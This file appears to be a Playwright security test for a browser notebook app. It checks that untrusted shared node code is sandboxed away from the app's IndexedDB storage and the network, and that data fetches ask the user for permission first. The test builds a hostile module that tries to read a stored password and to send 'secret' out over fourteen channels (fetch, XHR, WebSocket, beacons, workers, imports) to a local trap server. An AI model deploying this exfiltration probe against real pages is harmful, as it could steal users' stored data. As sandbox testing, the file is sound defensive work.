// Node code from a stranger runs where the browser keeps it from the visitor's storage and network.
import { createServer, type IncomingMessage, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { expect, test, type Page } from "@playwright/test";
import { graphNode, openExample, replaceCode, run } from "./app";

interface Trap {
  origin: string;
  hits: string[];
  close(): Promise<void>;
}

/** A local server that records every request (and WebSocket upgrade) and serves one CSV. */
async function startTrap(): Promise<Trap> {
  const hits: string[] = [];
  const record = (req: IncomingMessage) => hits.push(`${req.method} ${req.url}`);
  const server: Server = createServer((req, res) => {
    record(req);
    const csv = req.url === "/data.csv";
    res.writeHead(200, { "access-control-allow-origin": "*", "content-type": csv ? "text/csv" : "text/plain" });
    res.end(csv ? "city,amount\nOslo,3\nLima,4\n" : "x");
  });
  server.on("upgrade", (req, socket) => {
    record(req);
    socket.destroy();
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const { port } = server.address() as AddressInfo;
  return { origin: `http://127.0.0.1:${port}`, hits, close: () => new Promise((resolve) => server.close(() => resolve())) };
}

/** Every channel the issue names; each attempt reports what happened instead of throwing. */
function hostileModule(target: string): string {
  return `
const T = ${JSON.stringify(target)};
const wait = (ms) => new Promise((r) => setTimeout(() => r("timed out"), ms));
async function attempt(name, fn) {
  try { return name + ": ok " + String(await Promise.race([fn(), wait(3000)])).slice(0, 80); }
  catch (e) { return name + ": blocked " + (e && e.name); }
}
const event = (make) => new Promise((ok, fail) => { const s = make(); s.onopen = () => ok("open"); s.onerror = () => fail(new Error("error")); });
const request = (path) => new Promise((ok, fail) => { const x = new XMLHttpRequest(); x.open("POST", T + path); x.onload = () => ok(x.status); x.onerror = () => fail(new Error("xhr")); x.send("secret"); });
const worker = (src) => new Promise((ok, fail) => { const w = new Worker(src); w.onmessage = (e) => ok(e.data); w.onerror = (e) => { e.preventDefault(); fail(new Error("worker")); }; });
const nested = "fetch(" + JSON.stringify(T + "/nested") + ").then(() => postMessage('reached'), (e) => postMessage('blocked ' + e.name))";

export async function hostile() {
  const g = (function () {}).constructor("return this")();
  const lines = await Promise.all([
    attempt("databases", () => g.indexedDB.databases().then((d) => JSON.stringify(d))),
    attempt("open-app", () => new Promise((ok, fail) => { const r = g.indexedDB.open("sluice_app"); r.onsuccess = () => ok("opened"); r.onerror = () => fail(r.error); })),
    attempt("open-cache", () => new Promise((ok, fail) => { const r = indexedDB.open("sluice_cache"); r.onsuccess = () => ok(r.result.objectStoreNames.length); r.onerror = () => fail(r.error); })),
    attempt("caches", () => g.caches.keys()),
    attempt("fetch", () => g.fetch(T + "/fetch").then((r) => r.status)),
    attempt("no-cors", () => fetch(T + "/no-cors", { mode: "no-cors", method: "POST", body: "secret" }).then((r) => r.type)),
    attempt("xhr", () => request("/xhr")),
    attempt("websocket", () => event(() => new WebSocket(T.replace("http", "ws") + "/ws"))),
    attempt("eventsource", () => event(() => new EventSource(T + "/events"))),
    attempt("importScripts", () => g.importScripts(T + "/script.js")),
    attempt("import", () => Function("u", "return import(u)")(T + "/module.js")),
    attempt("nested-worker", () => worker(URL.createObjectURL(new Blob([nested])))),
    attempt("remote-worker", () => worker(T + "/worker.js")),
    attempt("beacon", () => g.navigator.sendBeacon(T + "/beacon", "secret")),
  ]);
  return lines.join("\\n");
}
`;
}

const fetchModule = (url: string) => `import { fetchTable } from "sluice";

export async function remote() {
  return await fetchTable(${JSON.stringify(url)});
}
`;

async function preview(page: Page, node: string) {
  await graphNode(page, node).click();
  const panel = page.getByTestId("preview");
  await expect(panel).toHaveAttribute("data-node", node);
  return panel;
}

test("hostile node code reaches no storage and no network; fetchTable asks first", async ({ page }) => {
  const trap = await startTrap();
  const refused = await startTrap();
  try {
    await openExample(page, "basics");
    // Another workspace's data, in the app's origin, that node code must not read.
    await page.evaluate(() => new Promise((resolve) => {
      const open = indexedDB.open("sluice_app");
      open.onupgradeneeded = () => open.result.createObjectStore("secrets").put("hunter2", "password");
      open.onsuccess = () => resolve(open.result.close());
    }));

    // It arrives as a stranger's link: nothing runs until the visitor trusts it.
    await replaceCode(page, hostileModule(trap.origin));
    await page.getByTestId("share-button").click();
    const link = await page.getByTestId("share-link").inputValue();
    await page.goto(link);
    await expect(page.getByTestId("link-warning")).toBeVisible();
    await expect(page.getByTestId("run-button")).toBeDisabled();
    await page.getByTestId("link-trust").click();
    await run(page);
    const value = await preview(page, "hostile");
    for (const name of ["databases", "open-app", "open-cache"]) await expect(value).toContainText(`${name}: blocked SecurityError`);
    for (const name of ["caches", "fetch", "no-cors", "xhr", "websocket", "eventsource", "importScripts", "import", "remote-worker", "beacon"]) {
      await expect(value).toContainText(`${name}: blocked`);
    }
    await expect(value).toContainText("nested-worker: ok blocked TypeError");
    await expect(value).not.toContainText("hunter2");
    // Late requests (a socket retry, a beacon) would have arrived by now.
    await page.waitForTimeout(500);
    expect(trap.hits).toEqual([]);

    // On purpose, through the app: asked once, allowed, fetched by the engine worker.
    await replaceCode(page, fetchModule(`${trap.origin}/data.csv`));
    await page.getByTestId("run-button").click();
    await expect(page.getByTestId("network-ask")).toContainText(trap.origin);
    await page.getByTestId("network-allow").click();
    await expect(page.getByTestId("network-ask")).toHaveCount(0);
    await expect(graphNode(page, "remote")).toHaveAttribute("data-status", "executed");
    await expect(await preview(page, "remote")).toContainText("Oslo");
    expect(trap.hits).toEqual(["GET /data.csv"]);
    // The answer is kept with the workspace: after a reload the fetch is not asked again.
    await page.reload();
    await expect(page.getByTestId("run-history")).toHaveAttribute("data-loaded", "true");
    await run(page);
    await expect(graphNode(page, "remote")).toHaveAttribute("data-status", "cached");
    await page.getByTestId("cache-settings").locator("summary").click();
    await expect(page.getByTestId("network-grant")).toHaveAttribute("data-grant", "allow");
    await page.getByTestId("cache-settings").locator("summary").click();

    // Refused: the node fails with NETWORK_DENIED naming the URL, and nothing is sent.
    const url = `${refused.origin}/data.csv`;
    await replaceCode(page, fetchModule(url));
    await page.getByTestId("run-button").click();
    await page.getByTestId("network-deny").click();
    await expect(graphNode(page, "remote")).toHaveAttribute("data-status", "failed");
    const error = page.getByTestId("run-error");
    await expect(error).toHaveAttribute("data-code", "NETWORK_DENIED");
    await expect(error).toContainText(url);
    expect(refused.hits).toEqual([]);
  } finally {
    await trap.close();
    await refused.close();
  }
});
